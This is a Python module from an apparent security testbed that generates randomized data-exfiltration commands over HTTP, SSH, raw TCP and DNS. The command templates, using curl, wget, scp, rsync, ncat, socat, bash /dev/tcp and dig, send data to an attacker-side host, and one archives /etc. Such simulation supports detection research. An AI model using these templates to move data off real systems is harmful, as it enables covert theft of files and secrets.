"""Data that leave: over HTTP, SSH, bare TCP and DNS, in one piece or in small ones, at once or slowly."""

from testbed.attacks.material import (INSIDE, SSH, blob, drop, key_of, listening, maybe, pause, program, serving, text, user_agent,
                                      words, zone)
from testbed.attacks.tunnels import ssh_server, through_names
from testbed.catalogue import Assault, attack

PLAIN = "T1048.003"
ENCRYPTED = "T1048.002"


def pieces(c, send: str, low: float = 0.1, high: float = 2.5) -> str:
    """Sends `$size` bytes again and again, not always the same."""
    size = c.typical(60_000, 0.9, 400_000)
    return (f"RANDOM={c.between(1, 32767)}; for piece in $(seq {c.between(3, 12)}); do size=$(({size} + RANDOM *"
            f" {c.choose(0, 1, 2)})); {send}; {pause(c.between(low, high), c.choose(0, 0.3))}; done")


def web(c) -> tuple[str, dict, str]:
    """Where to send by HTTP: an address, the fields of the `Assault`, and options of curl."""
    end = drop(c, c.choose("http", "https", "https"))
    path = c.choose("/up", "/upload", "/api/log", "/index.php", f"/{c.between(1, 10**8):x}", "/collect")
    options = words(f"-sk -m 15 -A '{user_agent(c)}' -o /dev/null", maybe(c, 0.4, "--http1.1"),
                    maybe(c, 0.3, f"--limit-rate {c.between(15, 200)}k"))
    return end.url + path, end.assault, options


@attack("exfil_http", technique=PLAIN, tool="curl PUT", origins=INSIDE, packages=("curl",), seconds=40)
def curl_put(c):
    url, fields, options = web(c)
    return Assault(pieces(c, f"head -c $size /dev/urandom | curl {options} -T - {url}/$piece"), **fields)


@attack("exfil_http", technique=PLAIN, tool="curl POST", origins=INSIDE, packages=("curl",), seconds=40)
def curl_post(c):
    url, fields, options = web(c)
    encode = c.choose("base64 -w0", "gzip", "od -An -v -tx1 | tr -d ' \\n'", "openssl enc -aes-256-cbc -pbkdf2 -k x")
    return Assault(pieces(c, f"head -c $size /dev/urandom | {encode} | curl {options} --data-binary @- {url}"), **fields)


@attack("exfil_http", technique=PLAIN, tool="curl form", origins=INSIDE, packages=("curl",), seconds=40)
def curl_form_upload(c):
    url, fields, options = web(c)
    name = c.choose("file", "f", "document", "photo")
    return Assault(pieces(c, f"head -c $size /dev/urandom > taken; curl {options} -F '{name}=@taken' -F id=$piece {url}"), **fields)


@attack("exfil_http", technique=PLAIN, tool="wget", origins=INSIDE, packages=("wget",), seconds=40)
def wget_post(c):
    url, fields, _ = web(c)
    return Assault(pieces(c, "head -c $size /dev/urandom > taken; wget -q -T 10 -t 1 --no-check-certificate -U"
                             f" '{user_agent(c)}' --post-file=taken -O /dev/null {url}"), **fields)


@attack("exfil_http", technique=PLAIN, tool="curl cookies", origins=INSIDE, packages=("curl",), seconds=60)
def in_headers(c):
    url, fields, options = web(c)
    place = c.choose("-b \"s=$part\"", '-H "X-Trace: $part"', '-G -d "q=$part"')
    return Assault(f"for piece in $(seq {c.between(20, 70)}); do part=$({text(c.between(200, 3000))} | tr '+/=' '-_.'); curl {options}"
                   f" {place} {url}; {pause(c.between(0.1, 0.8))}; done", **fields)


@attack("exfil_ssh", technique=ENCRYPTED, tool="scp", origins=INSIDE, packages=("openssh-client", "openssh-server"), seconds=45)
def scp_away(c):
    return to_ssh(c, lambda options, port, where: words("scp -q -P", port, options, maybe(c, 0.3, "-C"),
                                                        maybe(c, 0.5, f"-l {c.between(800, 9000)}"), "taken", where + ":"))


@attack("exfil_ssh", technique=ENCRYPTED, tool="sftp", origins=INSIDE, packages=("openssh-client", "openssh-server"), seconds=45)
def sftp_away(c):
    return to_ssh(c, lambda options, port, where: f"echo 'put taken' | sftp -q -P {port} {options} {where}")


@attack("exfil_ssh", technique=ENCRYPTED, tool="ssh cat", origins=INSIDE, packages=("openssh-client", "openssh-server"), seconds=45)
def cat_away(c):
    return to_ssh(c, lambda options, port, where: f"for piece in $(seq {c.between(1, 4)}); do ssh -p {port} {options} {where}"
                  f" 'cat > t$$' < taken; {pause(c.between(0.2, 2.0))}; done")


@attack("exfil_ssh", technique=ENCRYPTED, tool="tar over ssh", origins=INSIDE, packages=("openssh-client", "openssh-server"),
        seconds=45)
def tar_away(c):
    return to_ssh(c, lambda options, port, where: f"tar cz taken {c.choose('/etc/ssl', '/usr/share/doc/bash', '/etc')} 2>/dev/null |"
                  f" ssh -p {port} {options} {where} 'cat > t.tgz'")


@attack("exfil_ssh", technique=ENCRYPTED, tool="rsync", origins=INSIDE, packages=("rsync", "openssh-client", "openssh-server"),
        seconds=45)
def rsync_away(c):
    limit = maybe(c, 0.5, f"--bwlimit={c.between(80, 1500)}")
    return to_ssh(c, lambda options, port, where: f"rsync -a {limit} -e 'ssh -p {port} {options}' taken {where}:loot/")


def to_ssh(c, send) -> Assault:
    """Sends the file `taken` to an SSH server of the attacker's; `send` makes the command of options, port and where."""
    (user, key), (port, server) = key_of(c), ssh_server(c)
    command = send(f"{SSH} {key}", port, f"{user.name}@{c.network.outside.address}")
    return Assault(f"{blob(c.typical(500_000, 0.8, 3_000_000))} > taken; {command}", **listening(server, c.network.outside))


def bulk(c) -> int:
    return c.typical(250_000, 1.0, 1_500_000)


@attack("exfil_nc", technique=PLAIN, tool="ncat", origins=INSIDE, packages=("ncat",), seconds=35)
def ncat_away(c):
    end = drop(c, "tcp")
    send = f"timeout 12 ncat --send-only {end.address} {end.port}"
    return Assault(c.choose(f"{blob(bulk(c))} | {send}", pieces(c, f"head -c $size /dev/urandom | {send}")), **end.assault)


@attack("exfil_nc", technique=PLAIN, tool="ncat --ssl", origins=INSIDE, packages=("ncat", "openssl"), seconds=35)
def ncat_tls_away(c):
    end = drop(c, "tls")
    send = f"timeout 12 ncat --ssl --send-only {end.address} {end.port}"
    return Assault(c.choose(f"{blob(bulk(c))} | {send}", pieces(c, f"head -c $size /dev/urandom | {send}")), **end.assault)


@attack("exfil_nc", technique=PLAIN, tool="netcat", origins=INSIDE, packages=("netcat-openbsd",), seconds=35)
def netcat_away(c):
    end = drop(c, "tcp")
    encode = c.choose("cat", "gzip", "base64", "openssl enc -aes-256-cbc -pbkdf2 -k x")
    return Assault(f"{blob(bulk(c))} | {encode} | timeout 25 nc.openbsd -q1 {end.address} {end.port}", **end.assault)


@attack("exfil_nc", technique=PLAIN, tool="socat", origins=INSIDE, packages=("socat",), seconds=35)
def socat_away(c):
    end = drop(c, "tcp")
    return Assault(f"{blob(bulk(c))} | timeout 25 socat -u -b {c.choose(512, 1024, 8192)} - TCP:{end.address}:{end.port}", **end.assault)


@attack("exfil_nc", technique=PLAIN, tool="bash", origins=INSIDE, seconds=60)
def bash_away(c):
    end = drop(c, "tcp")
    size = c.between(500, 6000)
    slow = (f"exec 3>/dev/tcp/{end.address}/{end.port}; for piece in $(seq {c.between(20, 90)}); do {blob(size)} >&3;"
            f" {pause(c.between(0.05, 0.6))}; done")
    return Assault(c.choose(f"{blob(bulk(c))} > /dev/tcp/{end.address}/{end.port}", slow), **end.assault)


def in_names(c, command) -> Assault:
    """Sends data inside names of a zone of the attacker's; `command` makes the command of the zone."""
    name, port = zone(c)
    server = program("zone.py", "--zone", name, "--port", port, "--seed", c.between(1, 10**6))
    return Assault(command(name), evidence=through_names(name), **serving(name, port, server, c))


@attack("exfil_dns", technique=PLAIN, tool="dig", origins=INSIDE, needs=("dns", "outside:zones"),
        packages=("bind9-dnsutils",), seconds=70)
def dig_away(c):
    kind = c.choose("A", "TXT", "CNAME", "AAAA")
    return in_names(c, lambda name: f"count=0; {blob(c.between(600, 2500))} | od -An -v -tx1 -w{c.choose(12, 20, 30)} | tr -d ' ' |"
                    f" while read part; do count=$((count + 1)); dig {kind} $part.$count.{name} +short +tries=1 +time=2;"
                    f" {pause(c.between(0.0, 0.6))}; done")


@attack("exfil_dns", technique=PLAIN, tool="names.py", origins=INSIDE, needs=("dns", "outside:zones"), packages=("python3",),
        seconds=80)
def names_away(c):
    return in_names(c, lambda name: program(
        "names.py", "--zone", name, "--server", c.network.resolver, "--bytes", c.between(800, 5000), "--label",
        c.between(16, 63), "--labels", c.between(1, 3), "--type", c.choose("A", "AAAA", "TXT", "MX", "NULL"), "--pause",
        c.between(0.02, 0.7), "--seed", c.between(1, 10**6)))


@attack("exfil_dns", technique=PLAIN, tool="getent", origins=INSIDE, needs=("dns", "outside:zones"), packages=("libc-bin",),
        seconds=70)
def getent_away(c):
    return in_names(c, lambda name: f"{blob(c.between(400, 1500))} | base64 -w{c.between(16, 60)} | tr '+/=' 'xyz' | while read part;"
                    f" do getent ahostsv4 $part.{name}; {pause(c.between(0.0, 0.7))}; done")
